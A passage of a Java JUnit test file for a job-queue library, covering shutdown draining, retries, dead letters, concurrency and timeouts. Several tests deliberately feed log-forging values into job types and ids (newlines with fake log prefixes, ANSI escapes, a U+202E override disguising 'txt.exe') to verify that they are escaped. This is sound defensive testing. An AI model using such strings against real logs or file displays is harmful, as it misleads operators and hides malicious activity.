            started.countDown();
            assertThat(finish.await(EventRecorder.WAIT.toMillis(), TimeUnit.MILLISECONDS)).isTrue();
            handlerReturned.set(true);
        });
        jobs.start();
        jobs.enqueue("work", new Work(1));
        assertThat(started.await(20, TimeUnit.SECONDS)).isTrue();

        Thread first = Thread.ofVirtual().start(jobs::close);
        // Once close() has begun, handlers can no longer be registered.
        await().atMost(EventRecorder.WAIT).until(() -> {
            try {
                jobs.registerJobHandler("probe", Work.class, (job, ctx) -> { });
                return false;
            } catch (JobQueueException closing) {
                return true;
            }
        });
        var handlerDoneWhenSecondReturned = new AtomicReference<Boolean>();
        Thread second = Thread.ofVirtual().start(() -> {
            jobs.close();
            handlerDoneWhenSecondReturned.set(handlerReturned.get());
        });
        try {
            // Before, the second close() returned at once, while the first still drained the running handler.
            assertThat(second.join(Duration.ofMillis(500))).as("the second close() returned during the drain").isFalse();
        } finally {
            finish.countDown();
        }

        assertThat(second.join(Duration.ofSeconds(20))).isTrue();
        assertThat(first.join(Duration.ofSeconds(20))).isTrue();
        assertThat(handlerDoneWhenSecondReturned.get()).isTrue();
        assertThat(events.all(JobEvent.Completed.class)).hasSize(1);
    }

    @Test
    @DisplayName("close() called again by a listener on the thread that shuts down does not wait for itself")
    void closeFromAListenerOfTheShutdownReturns() throws Exception {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        var closedAgain = new CountDownLatch(1);
        jobs.addListener(event -> {
            if (event instanceof JobEvent.WorkerStopped) {
                jobs.close();
                closedAgain.countDown();
            }
        });
        jobs.start();

        Thread closer = Thread.ofVirtual().start(jobs::close);

        assertThat(closer.join(Duration.ofSeconds(20))).isTrue();
        assertThat(closedAgain.getCount()).isZero();
    }

    @Test
    @DisplayName("close() returns only after a job that finished during the drain is acknowledged and announced")
    void drainWaitsForTheAcknowledgement() throws Exception {
        QueueProvider provider = memoryProvider(Map.of());
        var acknowledging = new CountDownLatch(1);
        var acknowledge = new CountDownLatch(1);
        JobQueue jobs = JobQueue.builder()
                .provider(new KeepOpen(provider, () -> {
                    acknowledging.countDown();
                    awaitIgnoringInterrupts(acknowledge);
                }))
                .shutdownTimeout(Duration.ofSeconds(30))
                .listener(events)
                .build();
        fixture.closeLater(jobs);
        var started = new CountDownLatch(1);
        var finish = new CountDownLatch(1);
        jobs.registerJobHandler("work", Work.class, (job, ctx) -> {
            started.countDown();
            finish.await();
        });
        jobs.start();
        String id = jobs.enqueue("work", new Work(1));
        assertThat(started.await(20, TimeUnit.SECONDS)).isTrue();

        Thread closer = Thread.ofVirtual().start(jobs::close);
        finish.countDown();
        assertThat(acknowledging.await(20, TimeUnit.SECONDS)).as("the handler returned during the drain").isTrue();
        try {
            assertThat(closer.join(Duration.ofMillis(500))).as("close() returned under an acknowledgement in flight")
                    .isFalse();
        } finally {
            acknowledge.countDown();
        }

        assertThat(closer.join(Duration.ofSeconds(20))).isTrue();
        assertThat(events.all(JobEvent.Completed.class)).extracting(JobEvent.Completed::jobId).containsExactly(id);
        assertThat(events.all(JobEvent.Released.class)).isEmpty();
        assertThat(provider.receive(1, Duration.ofMillis(200))).as("acknowledged, so never delivered again").isEmpty();
    }

    @Test
    @DisplayName("a handler that ignores interrupts does not hold shutdown past shutdownTimeout, and its job is released")
    void handlerIgnoringInterruptsDoesNotHoldShutdown() throws Exception {
        QueueProvider provider = memoryProvider(Map.of());
        JobQueue jobs = queue(provider, 1, Duration.ofMillis(300));
        var letGo = new CountDownLatch(1);
        var started = new CountDownLatch(1);
        jobs.registerJobHandler("stubborn", Work.class, (job, ctx) -> {
            started.countDown();
            awaitIgnoringInterrupts(letGo);
        });
        jobs.start();
        String id = jobs.enqueue("stubborn", new Work(1), EnqueueOptions.builder().timeout(Duration.ofMinutes(5)).build());
        assertThat(started.await(20, TimeUnit.SECONDS)).isTrue();

        Thread closer = Thread.ofVirtual().start(jobs::close);
        try {
            assertThat(closer.join(Duration.ofSeconds(20))).as("close() returned while the handler still runs").isTrue();
            assertThat(events.all(JobEvent.Released.class)).extracting(JobEvent.Released::jobId).containsExactly(id);
            List<ReceivedJob> again = provider.receive(1, Duration.ofSeconds(5));
            assertThat(again).extracting(ReceivedJob::jobId).containsExactly(id);
        } finally {
            letGo.countDown();
        }
    }

    @Test
    @DisplayName("a provider that does not answer the release of a job running past shutdownTimeout does not hold close()")
    void unansweredReleaseDoesNotHoldShutdown() throws Exception {
        var answer = new CountDownLatch(1);
        var releaseCalled = new CountDownLatch(1);
        QueueProvider silentOnRelease = new ForwardingQueueProvider(memoryProvider(Map.of())) {
            @Override
            public void release(ReceivedJob job) {
                // as SQS out of reach: the SDK tries each call for minutes
                releaseCalled.countDown();
                awaitIgnoringInterrupts(answer);
                super.release(job);
            }
        };
        JobQueue jobs = queue(silentOnRelease, 1, Duration.ofMillis(200));
        var started = new CountDownLatch(1);
        jobs.registerJobHandler("long", Work.class, (job, ctx) -> {
            started.countDown();
            new CountDownLatch(1).await();
        });
        jobs.start();
        String id = jobs.enqueue("long", new Work(1), EnqueueOptions.builder().timeout(Duration.ofMinutes(5)).build());
        assertThat(started.await(20, TimeUnit.SECONDS)).isTrue();

        Thread closer = Thread.ofVirtual().start(jobs::close);
        try {
            assertThat(releaseCalled.await(20, TimeUnit.SECONDS)).isTrue();
            assertThat(closer.join(Duration.ofSeconds(20))).as("close() returned while the release has no answer")
                    .isTrue();
            assertThat(events.all(JobEvent.WorkerStopped.class)).extracting(JobEvent.WorkerStopped::released)
                    .containsExactly(1);
        } finally {
            answer.countDown();
        }
        assertThat(events.awaitCount(JobEvent.Released.class, 1)).extracting(JobEvent.Released::jobId)
                .as("released once the provider answers").containsExactly(id);
    }

    @Test
    @DisplayName("a handler's exception whose causes loop back to it fails the attempt with its message, like any other")
    void exceptionWithACauseLoopIsSettled() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        jobs.registerJobHandler("loops", Work.class, (job, ctx) -> {
            var outer = new IllegalStateException("query failed");
            var inner = new RuntimeException("connection closed", outer);
            outer.initCause(inner);
            throw outer;
        });
        jobs.start();
        jobs.enqueue("loops", new Work(1), EnqueueOptions.builder().maxAttempts(1).build());

        // Before, describing the error walked the cause chain for ever: no event, the job never settled.
        JobEvent.Dead dead = events.awaitCount(JobEvent.Dead.class, 1).get(0);
        assertThat(dead.error()).isEqualTo("IllegalStateException: query failed (caused by RuntimeException: "
                + "connection closed) (attempt 1 of 1)");
    }

    /** An exception whose message is built from what can no longer be read, as an entity's after its session closed. */
    static final class OrderFailed extends RuntimeException {
        @Override
        public String getMessage() {
            throw new IllegalStateException("could not initialize proxy - no Session");
        }
    }

    @Test
    @DisplayName("a handler's exception whose getMessage() throws fails the attempt at once, saying so, like any other")
    void exceptionWhoseMessageCannotBeReadIsSettled() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        jobs.registerJobHandler("order:ship", Work.class, (job, ctx) -> {
            throw new OrderFailed();
        });
        jobs.start();
        jobs.enqueue("order:ship", new Work(1), EnqueueOptions.builder().maxAttempts(2).build());

        // Before, describing or logging the error threw, and ended the handler's thread with the attempt
        // unsettled: no Failed, the job waited out its lease, and its dead letter blamed a crashed worker.
        List<JobEvent.Failed> failed = events.awaitCount(JobEvent.Failed.class, 1);
        JobEvent.Dead dead = events.awaitCount(JobEvent.Dead.class, 1).get(0);
        String unreadable = "OrderFailed: (its getMessage() threw IllegalStateException: could not initialize proxy - "
                + "no Session)";
        assertThat(failed).extracting(JobEvent.Failed::error).containsExactly(unreadable);
        assertThat(dead.error()).isEqualTo(unreadable + " (attempt 2 of 2)");
    }

    @Test
    @DisplayName("NonRetryableJobException goes dead at once, whatever attempts remain")
    void nonRetryableGoesDeadAtOnce() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 2, Duration.ofSeconds(5));
        var runs = new AtomicInteger();
        jobs.registerJobHandler("bad-input", Work.class, (job, ctx) -> {
            runs.incrementAndGet();
            throw new NonRetryableJobException("user 42 does not exist");
        });
        jobs.start();
        jobs.enqueue("bad-input", new Work(42), EnqueueOptions.builder().maxAttempts(5).build());

        JobEvent.Dead dead = events.awaitCount(JobEvent.Dead.class, 1).get(0);
        assertThat(dead.error()).isEqualTo("not retryable: NonRetryableJobException: user 42 does not exist");
        assertThat(dead.attempt()).isEqualTo(1);
        assertThat(runs).hasValue(1);
        assertThat(events.all(JobEvent.Failed.class)).isEmpty();
    }

    /**
     * Starts {@code jobs} with a "second-time-lucky" handler that refuses its first run for good and completes any
     * later one, and returns the id of one such job, once it is dead.
     */
    private String deadOnItsFirstRun(JobQueue jobs) {
        var runs = new AtomicInteger();
        jobs.registerJobHandler("second-time-lucky", Work.class, (job, ctx) -> {
            if (runs.incrementAndGet() == 1) {
                throw new NonRetryableJobException("not yet");
            }
        });
        jobs.start();
        String id = jobs.enqueue("second-time-lucky", new Work(1));
        events.awaitCount(JobEvent.Dead.class, 1);
        return id;
    }

    @Test
    @DisplayName("a dead job run again from the dead letters is announced as Enqueued before it starts again at attempt 1")
    void redriveIsAnnouncedAsEnqueued() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        String id = deadOnItsFirstRun(jobs);

        assertThat(jobs.deadLetters("default").orElseThrow().redrive(id)).isTrue();

        JobEvent.Completed done = events.awaitCount(JobEvent.Completed.class, 1).get(0);
        assertThat(done.attempt()).isEqualTo(1);
        assertThat(events.all(JobEvent.Enqueued.class))
                .extracting(JobEvent.Enqueued::jobId, JobEvent.Enqueued::type, JobEvent.Enqueued::viaScheduler)
                .containsExactly(tuple(id, "second-time-lucky", false), tuple(id, "second-time-lucky", false));
    }

    @Test
    @DisplayName("a redriven job that runs and completes before its redrive is announced is still announced as Enqueued, "
            + "on a queue that keeps no completed jobs")
    void redriveOfAJobThatEndsAtOnceIsStillAnnounced() {
        var completed = new CountDownLatch(1);
        // A look-up that finds the job back on its queue waits until the worker has run it: the interleaving of a
        // worker that takes a redriven job at once, or of a look-up slow to answer.
        QueueProvider provider = new ForwardingQueueProvider(memoryProvider(Map.of("maxHistorySize", 0))) {
            @Override
            public Optional<JobInfo> getJob(String jobId) {
                Optional<JobInfo> found = super.getJob(jobId);
                if (found.isPresent() && found.get().state() != JobState.DEAD) {
                    try {
                        completed.await(20, TimeUnit.SECONDS);
                    } catch (InterruptedException e) {
                        Thread.currentThread().interrupt();
                    }
                    return super.getJob(jobId);
                }
                return found;
            }
        };
        JobQueue jobs = queue(provider, 1, Duration.ofSeconds(5));
        jobs.addListener(event -> {
            if (event instanceof JobEvent.Completed) {
                completed.countDown();
            }
        });
        String id = deadOnItsFirstRun(jobs);

        assertThat(jobs.deadLetters("default").orElseThrow().redrive(id)).isTrue();

        events.awaitCount(JobEvent.Completed.class, 1);
        // Before, the redrive looked the job's type up after putting it back: run and completed by then, with no
        // history kept, it was found no more, and its Enqueued was never announced.
        assertThat(events.all(JobEvent.Enqueued.class))
                .as("the enqueue and the redrive, each announced")
                .extracting(JobEvent.Enqueued::jobId, JobEvent.Enqueued::type)
                .containsExactly(tuple(id, "second-time-lucky"), tuple(id, "second-time-lucky"));
    }

    @Test
    @DisplayName("a listener that throws an Error (a test's failed assertion) neither fails start() or the enqueue, nor keeps "
            + "the handler from running, nor leaves a failed attempt unsettled until its lease ends")
    void listenerThrowingAnErrorBreaksNoAttempt() {
        // A lease far longer than the wait: an attempt left unsettled would not come back in time.
        JobQueue jobs = queue(memoryProvider(Map.of("leaseDuration", "10m")), 1, Duration.ofSeconds(5));
        jobs.addListener(event -> {
            throw new AssertionError("a test's listener asserting on " + event.getClass().getSimpleName());
        });
        var runs = new AtomicInteger();
        jobs.registerJobHandler("flaky", Work.class, (job, ctx) -> {
            if (runs.incrementAndGet() == 1) {
                throw new IllegalStateException("the first attempt fails");
            }
        });
        jobs.start();
        String id = jobs.enqueue("flaky", new Work(1));

        JobEvent.Completed done = events.awaitCount(JobEvent.Completed.class, 1).get(0);
        assertThat(done.jobId()).isEqualTo(id);
        assertThat(done.attempt()).isEqualTo(2);
        assertThat(runs).hasValue(2);
        assertThat(events.all(JobEvent.Failed.class)).extracting(JobEvent.Failed::error)
                .containsExactly("IllegalStateException: the first attempt fails");
    }

    @Test
    @DisplayName("never more than concurrency handlers run at once, and all permits get used")
    void concurrencyIsABound() {
        int concurrency = 3;
        JobQueue jobs = queue(memoryProvider(Map.of()), concurrency, Duration.ofSeconds(5));
        var running = new AtomicInteger();
        var peak = new AtomicInteger();
        var barrier = new CyclicBarrier(concurrency);
        jobs.registerJobHandler("work", Work.class, (job, ctx) -> {
            peak.accumulateAndGet(running.incrementAndGet(), Math::max);
            try {
                barrier.await(20, TimeUnit.SECONDS);
            } finally {
                running.decrementAndGet();
            }
        });
        jobs.start();
        for (int i = 0; i < 30; i++) {
            jobs.enqueue("work", new Work(i));
        }
        events.awaitCount(JobEvent.Completed.class, 30);
        assertThat(peak).hasValue(concurrency);
        assertThat(jobs.stats("default").peakActive()).isEqualTo(concurrency);
    }

    @Test
    @DisplayName("the worker counts the handlers running now: each blocked one while it blocks, none once all returned")
    void activeHandlersCountsTheRunningAttempts() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 4, Duration.ofSeconds(5));
        var mayFinish = new CountDownLatch(1);
        jobs.registerJobHandler("blocked", Work.class, (job, ctx) -> mayFinish.await());
        jobs.start();
        var worker = (JobQueueRuntime) jobs;
        assertThat(worker.activeHandlers()).isZero();
        for (int i = 0; i < 3; i++) {
            jobs.enqueue("blocked", new Work(i));
        }
        events.awaitCount(JobEvent.Started.class, 3);
        assertThat(worker.activeHandlers()).isEqualTo(3);
        mayFinish.countDown();
        events.awaitCount(JobEvent.Completed.class, 3);
        await().atMost(Duration.ofSeconds(10)).until(() -> worker.activeHandlers() == 0);
    }

    @Test
    @DisplayName("handlers that compute without blocking on every core still time out at their timeout")
    void handlersBusyOnEveryCoreStillTimeOut() {
        // As many as the virtual-thread scheduler has carrier threads: each handler keeps one busy.
        int cores = Runtime.getRuntime().availableProcessors();
        JobQueue jobs = queue(memoryProvider(Map.of()), cores, Duration.ofSeconds(5));
        jobs.registerJobHandler("compute", Work.class, (job, ctx) -> {
            long giveUp = System.nanoTime() + Duration.ofSeconds(60).toNanos();
            while (!ctx.isCancelled() && System.nanoTime() - giveUp < 0) {
                Thread.onSpinWait(); // work that never blocks, so never yields its carrier thread
            }
        });
        jobs.start();
        for (int i = 0; i < cores; i++) {
            jobs.enqueue("compute", new Work(i),
                    EnqueueOptions.builder().timeout(Duration.ofMillis(200)).maxAttempts(1).build());
        }

        // Before, the timeouts waited on a virtual thread for a free carrier: the handlers ran their 60 s. Half
        // that leaves a loaded machine room, and the handlers running their course cannot pass in it.
        await().atMost(Duration.ofSeconds(30)).until(() -> events.all(JobEvent.Dead.class).size() == cores);
        assertThat(events.all(JobEvent.Dead.class)).extracting(JobEvent.Dead::error)
                .containsOnly("timed out after 200ms (attempt 1 of 1)");
        assertThat(events.all(JobEvent.Completed.class)).isEmpty();
    }

    @Test
    @DisplayName("a handler that ignores the interrupt after its timeout counts as overdue until it returns")
    void handlerIgnoringItsTimeoutIsOverdue() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 2, Duration.ofSeconds(5));
        var mayReturn = new CountDownLatch(1);
        jobs.registerJobHandler("stubborn", Work.class, (job, ctx) -> {
            while (true) {
                try {
                    if (mayReturn.await(30, TimeUnit.SECONDS)) {
                        return;
                    }
                } catch (InterruptedException ignored) {
                    // what a handler stuck in a call that swallows interrupts does
                }
            }
        });
        jobs.start();
        var worker = (JobQueueRuntime) jobs;
        jobs.enqueue("stubborn", new Work(1), EnqueueOptions.builder().timeout(Duration.ofMillis(100)).maxAttempts(1).build());

        events.awaitCount(JobEvent.Dead.class, 1);
        assertThat(worker.overdueHandlers()).isEqualTo(1);
        assertThat(worker.activeHandlers()).isEqualTo(1);

        mayReturn.countDown();
        await().atMost(EventRecorder.WAIT).until(() -> worker.activeHandlers() == 0);
        assertThat(worker.overdueHandlers()).isZero();
    }

    @Test
    @DisplayName("a handler thread of the first-listed queue waits briefly for its next job; a later queue's takes only what is there")
    void onlyTheFirstQueuesHandlerThreadsWaitForTheirNextJob() {
        var firstWaits = new CopyOnWriteArrayList<Duration>();
        var secondWaits = new CopyOnWriteArrayList<Duration>();
        JobQueue jobs = fixture.closeLater(JobQueue.builder()
                .provider(new KeepOpen(recordingHandlerWaits(memoryProvider(Map.of()), firstWaits)))
                .queue("later", new KeepOpen(recordingHandlerWaits(memoryProvider(Map.of()), secondWaits)))
                .workerQueues("default", "later")
                .concurrency(2)
                .listener(events)
                .build());
        jobs.registerJobHandler("work", Work.class, (job, ctx) -> { });
        jobs.start();
        for (int i = 0; i < 6; i++) {
            jobs.enqueue("work", new Work(i), EnqueueOptions.queue(i % 2 == 0 ? "default" : "later"));
        }

        events.awaitCount(JobEvent.Completed.class, 6);

        await().atMost(Duration.ofSeconds(10)).until(() -> !firstWaits.isEmpty() && !secondWaits.isEmpty());
        assertThat(firstWaits).containsOnly(Worker.NEXT_JOB_WAIT);
        assertThat(secondWaits).containsOnly(Duration.ZERO);
    }

    @Test
    @DisplayName("a later-listed queue is served while the first-listed one is empty: its wait holds one permit, not all")
    void laterQueueIsServedWhileTheFirstIsEmpty() {
        var firstWaiting = new CountDownLatch(1);
        QueueProvider first = new ForwardingQueueProvider(memoryProvider(Map.of())) {
            @Override
            public List<ReceivedJob> receive(int max, Duration wait) {
                firstWaiting.countDown();
                return super.receive(max, wait);
            }
        };
        JobQueue jobs = fixture.closeLater(JobQueue.builder()
                .provider(new KeepOpen(first))
                .queue("later", new KeepOpen(memoryProvider(Map.of())))
                .workerQueues("default", "later")
                .concurrency(2)
                .pollInterval(Duration.ofMinutes(1))
                .listener(events)
                .build());
        jobs.registerJobHandler("work", Work.class, (job, ctx) -> { });
        jobs.start();
        await().atMost(EventRecorder.WAIT).until(() -> firstWaiting.getCount() == 0);
        for (int i = 0; i < 6; i++) {
            jobs.enqueue("work", new Work(i), EnqueueOptions.queue("later"));
        }

        // Before, the empty first queue's receive held both permits for its minute of waiting.
        await().atMost(Duration.ofSeconds(10)).until(() -> events.all(JobEvent.Completed.class).size() == 6);
        assertThat(events.all(JobEvent.Completed.class)).extracting(JobEvent.Completed::queue).containsOnly("later");
    }

    @Test
    @DisplayName("with fewer permits than queues, the last-listed queue runs while the earlier ones are empty")
    void lastQueueIsServedWithFewerPermitsThanQueues() {
        var looked = new CountDownLatch(2);
        JobQueue jobs = fixture.closeLater(JobQueue.builder()
                .provider(new KeepOpen(countingReceives(memoryProvider(Map.of()), looked)))
                .queue("default-2", new KeepOpen(countingReceives(memoryProvider(Map.of()), looked)))
                .queue("low", new KeepOpen(memoryProvider(Map.of())))
                .workerQueues("default", "default-2", "low")
                .concurrency(1)
                .pollInterval(Duration.ofMillis(100))
                .listener(events)
                .build());
        jobs.registerJobHandler("work", Work.class, (job, ctx) -> { });
        jobs.start();
        await().atMost(EventRecorder.WAIT).until(() -> looked.getCount() == 0);
        for (int i = 0; i < 3; i++) {
            jobs.enqueue("work", new Work(i), EnqueueOptions.queue("low"));
        }

        // Before, the two empty queues' loops took turns at the one permit and the third never had it.
        await().atMost(Duration.ofSeconds(10)).until(() -> events.all(JobEvent.Completed.class).size() == 3);
        assertThat(events.all(JobEvent.Completed.class)).extracting(JobEvent.Completed::queue).containsOnly("low");
    }

    private static QueueProvider countingReceives(QueueProvider provider, CountDownLatch receives) {
        return new ForwardingQueueProvider(provider) {
            @Override
            public List<ReceivedJob> receive(int max, Duration wait) {
                receives.countDown();
                return super.receive(max, wait);
            }
        };
    }

    /**
     * Records the wait of every receive a handler thread (not a poll loop) makes on its own, not with an
     * acknowledgement (that one never waits).
     */
    private static QueueProvider recordingHandlerWaits(QueueProvider provider, List<Duration> waits) {
        return new ForwardingQueueProvider(provider) {
            @Override
            public List<ReceivedJob> acknowledgeAndReceive(ReceivedJob job, int max) {
                return delegate().acknowledgeAndReceive(job, max);
            }

            @Override
            public List<ReceivedJob> receive(int max, Duration wait) {
                if (Thread.currentThread().getName().startsWith("jobq-worker-")) {
                    waits.add(wait);
                }
                return super.receive(max, wait);
            }
        };
    }

    @Test
    @DisplayName("one slow job does not idle the other permits")
    void slowJobDoesNotIdleOthers() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 2, Duration.ofSeconds(5));
        var slowMayFinish = new CountDownLatch(1);
        jobs.registerJobHandler("slow", Work.class, (job, ctx) -> slowMayFinish.await());
        jobs.registerJobHandler("fast", Work.class, (job, ctx) -> { });
        jobs.start();
        String slow = jobs.enqueue("slow", new Work(0), EnqueueOptions.builder().timeout(Duration.ofMinutes(1)).build());
        events.awaitCount(JobEvent.Started.class, 1);
        for (int i = 0; i < 20; i++) {
            jobs.enqueue("fast", new Work(i));
        }
        List<JobEvent.Completed> done = events.awaitCount(JobEvent.Completed.class, 20);
        assertThat(done).extracting(JobEvent.Completed::jobId).doesNotContain(slow);
        slowMayFinish.countDown();
        assertThat(events.awaitCount(JobEvent.Completed.class, 21)).extracting(JobEvent.Completed::jobId).contains(slow);
    }

    @Test
    @DisplayName("shutdown releases unfinished jobs, and another worker completes them: none is lost")
    void shutdownReleasesUnfinishedJobs() {
        QueueProvider provider = memoryProvider(Map.of());
        JobQueue first = queue(provider, 2, Duration.ofMillis(200));
        var bothStarted = new CountDownLatch(2);
        first.registerJobHandler("long", Work.class, (job, ctx) -> {
            bothStarted.countDown();
            new CountDownLatch(1).await();
        });
        first.start();
        String a = first.enqueue("long", new Work(1), EnqueueOptions.builder().timeout(Duration.ofMinutes(5)).build());
        String b = first.enqueue("long", new Work(2), EnqueueOptions.builder().timeout(Duration.ofMinutes(5)).build());
        await().atMost(EventRecorder.WAIT).until(() -> bothStarted.getCount() == 0);

        first.close();
        assertThat(events.all(JobEvent.Released.class)).extracting(JobEvent.Released::jobId).containsExactlyInAnyOrder(a, b);
        assertThat(events.all(JobEvent.WorkerStopped.class)).extracting(JobEvent.WorkerStopped::released).containsExactly(2);

        JobQueue second = queue(provider, 2, Duration.ofSeconds(5));
        var completedAttempts = new ArrayList<Integer>();
        second.registerJobHandler("long", Work.class, (job, ctx) -> {
            synchronized (completedAttempts) {
                completedAttempts.add(job.attempt());
            }
        });
        second.start();
        List<JobEvent.Completed> done = events.awaitCount(JobEvent.Completed.class, 2);
        assertThat(done).extracting(JobEvent.Completed::jobId).containsExactlyInAnyOrder(a, b);
        assertThat(events.all(JobEvent.Dead.class)).isEmpty();
    }

    @Test
    @DisplayName("a job of a type with no handler is dead-lettered with the reason, not retried")
    void unknownTypeIsDeadLettered() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        jobs.registerJobHandler("known", Work.class, (job, ctx) -> { });
        jobs.start();
        String id = jobs.enqueue("unknown:type", new Work(1));

        JobEvent.Dead dead = events.awaitCount(JobEvent.Dead.class, 1).get(0);
        assertThat(dead.jobId()).isEqualTo(id);
        assertThat(dead.error()).startsWith("no handler for job type 'unknown:type' in this worker (registered: known)");
        assertThat(jobs.deadLetters("default").orElseThrow().list(10))
                .singleElement().satisfies(letter -> assertThat(letter.error()).contains("no handler for job type"));
    }

    @Test
    @DisplayName("a job reaching a worker that has no handlers yet (registered after start()) says none are "
            + "registered, not '(registered: )'")
    void unknownTypeOnAWorkerWithNoHandlersSaysNoneAreRegistered() {
        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
        jobs.start();
        String id = jobs.enqueue("email:send", new Work(1));

        JobEvent.Dead dead = events.awaitCount(JobEvent.Dead.class, 1).get(0);
        assertThat(dead.jobId()).isEqualTo(id);
        assertThat(dead.error()).startsWith("no handler for job type 'email:send' in this worker (none registered); "
                + "register one with JobQueue.registerJobHandler");
    }

    @Test
    @DisplayName("a type with no handler is quoted in the reason escaped and cut: a newline or an ANSI escape in it "
            + "forges no log line, a huge one is not copied whole")
    void unknownTypeIsQuotedEscapedAndBounded() {
        QueueProvider provider = memoryProvider(Map.of());
        JobQueue jobs = queue(provider, 1, Duration.ofSeconds(5));
        jobs.registerJobHandler("known", Work.class, (job, ctx) -> { });
        jobs.start();
        // Another producer's message: enqueue refuses a type with a control character, the worker reads one.
        provider.enqueue(new JobEnvelope(JobEnvelope.CURRENT_VERSION, "forged-type",
                "x\n12:00:00.000 INFO  Worker - forged\u001b[2J", "{\"n\":1}", JobOptions.defaults(), 0, Instant.now(),
                null, null), Duration.ZERO);
        jobs.enqueue("y".repeat(255), new Work(2));

        List<JobEvent.Dead> dead = events.awaitCount(JobEvent.Dead.class, 2);
        assertThat(dead).extracting(JobEvent.Dead::error).anySatisfy(error -> assertThat(error)
                .startsWith("no handler for job type 'x\\n12:00:00.000 INFO  Worker - forged\\u001b[2J' in this worker"))
                .anySatisfy(error -> assertThat(error).startsWith("no handler for job type '" + "y".repeat(200) + "…' ")
                        .hasSizeLessThan(1000))
                .allSatisfy(error -> assertThat(error).doesNotContain("\n", "\u001b"));
    }

    @Test
    @DisplayName("the worker's line about a job whose type has no handler writes the type escaped and cut: a newline or "
            + "an ANSI escape in another producer's type forges no log line, a huge one is not copied whole")
    void unknownTypeIsEscapedInTheWorkersLogLines() {
        var workerLog = (ch.qos.logback.classic.Logger) LoggerFactory.getLogger("dev.jobq");
        var logged = new CapturedLog();
        logged.start();
        workerLog.addAppender(logged);
        try {
            QueueProvider provider = memoryProvider(Map.of());
            JobQueue jobs = queue(provider, 1, Duration.ofSeconds(5));
            jobs.registerJobHandler("known", Work.class, (job, ctx) -> { });
            jobs.start();
            // Another producer's messages: enqueue refuses such types, the worker reads them.
            provider.enqueue(new JobEnvelope(JobEnvelope.CURRENT_VERSION, "forged-type",
                    "x\n12:00:00.000 INFO  Worker - forged\u001b[2J", "{\"n\":1}", JobOptions.defaults(), 0,
                    Instant.now(), null, null), Duration.ZERO);
            provider.enqueue(new JobEnvelope(JobEnvelope.CURRENT_VERSION, "huge-type", "z".repeat(100_000), "{\"n\":1}",
                    JobOptions.defaults(), 0, Instant.now(), null, null), Duration.ZERO);

            events.awaitCount(JobEvent.Dead.class, 2);

            assertThat(logged.warnings()).filteredOn(line -> line.contains("forged-type")).singleElement()
                    .satisfies(line -> assertThat(line)
                            .startsWith("job forged-type (x\\n12:00:00.000 INFO  Worker - forged\\u001b[2J) on queue")
                            .doesNotContain("\n", "\u001b"));
            assertThat(logged.warnings()).filteredOn(line -> line.contains("huge-type")).singleElement()
                    .satisfies(line -> assertThat(line).startsWith("job huge-type (" + "z".repeat(255) + "…) on queue")
                            .hasSizeLessThan(2_000));
        } finally {
            workerLog.detachAppender(logged);
        }
    }

    @Test
    @DisplayName("the DEBUG line of a handler that threw names the job by its id escaped: one with a newline, a "
            + "scheduler row's changed by hand and handed on as it is, forged a log line there")
    void handlerThatThrewIsLoggedWithItsIdEscaped() {
        QueueProvider provider = memoryProvider(Map.of());
        JobQueue jobs = queue(provider, 1, Duration.ofSeconds(5));
        jobs.registerJobHandler("report:send", Work.class, (job, ctx) -> {
            throw new IllegalStateException("the handler failed");
        });
        var lines = new CapturedLog();
        lines.start();
        var attemptLog = (ch.qos.logback.classic.Logger) LoggerFactory.getLogger("dev.jobq.internal.worker.AttemptRun");
        ch.qos.logback.classic.Level level = attemptLog.getLevel();
        attemptLog.setLevel(ch.qos.logback.classic.Level.DEBUG);
        attemptLog.addAppender(lines);
        try {
            provider.enqueue(new JobEnvelope(JobEnvelope.CURRENT_VERSION, "row-1\n12:00:00.000 INFO forged\u001b[31m",
                    "report:send", "{\"n\":1}",
                    new JobOptions(1, JobOptions.DEFAULT_TIMEOUT, 0, null, JobOptions.DEFAULT_QUEUE), 0, Instant.now(),
                    null, null), Duration.ZERO);
            jobs.start();
            events.awaitCount(JobEvent.Dead.class, 1);

            assertThat(lines.list).extracting(line -> line.getFormattedMessage())
                    .anySatisfy(line -> assertThat(line).startsWith("job row-1\\n12:00:00.000 INFO forged\\u001b[31m "
                            + "attempt 1 threw"))
                    .allSatisfy(line -> assertThat(line).doesNotContain("\n", "\u001b"));
        } finally {
            attemptLog.detachAppender(lines);
            attemptLog.setLevel(level);
        }
    }

    @Test
    @DisplayName("the worker's lines of an attempt (completed, threw, failed and retried, dead) write a bidirectional "
            + "override (U+202E) in a job's id as an escape, as a newline: raw, it showed the id reversed")
    void bidirectionalOverrideInAJobsIdIsEscapedInTheWorkersLinesOfItsAttempts() {
        QueueProvider provider = memoryProvider(Map.of());
        JobQueue jobs = queue(provider, 1, Duration.ofSeconds(5));
        jobs.registerJobHandler("report:send", Work.class, (job, ctx) -> {
            if (job.payload().n() > 0) {
                throw new IllegalStateException("the handler failed");
            }
        }, Backoff.fixed(Duration.ZERO));
        var lines = new CapturedLog();
        lines.start();
        var attemptLog = (ch.qos.logback.classic.Logger) LoggerFactory.getLogger("dev.jobq.internal.worker.AttemptRun");
        ch.qos.logback.classic.Level level = attemptLog.getLevel();
        attemptLog.setLevel(ch.qos.logback.classic.Level.DEBUG);
        attemptLog.addAppender(lines);
        try {
            var twice = new JobOptions(2, JobOptions.DEFAULT_TIMEOUT, 0, null, JobOptions.DEFAULT_QUEUE);
            provider.enqueue(new JobEnvelope(JobEnvelope.CURRENT_VERSION, "fails-\u202etxt.exe", "report:send",
                    "{\"n\":1}", twice, 0, Instant.now(), null, null), Duration.ZERO);
            provider.enqueue(new JobEnvelope(JobEnvelope.CURRENT_VERSION, "runs-\u202etxt.exe", "report:send",
                    "{\"n\":0}", twice, 0, Instant.now(), null, null), Duration.ZERO);
            jobs.start();
            events.awaitCount(JobEvent.Dead.class, 1);
            events.awaitCount(JobEvent.Completed.class, 1);

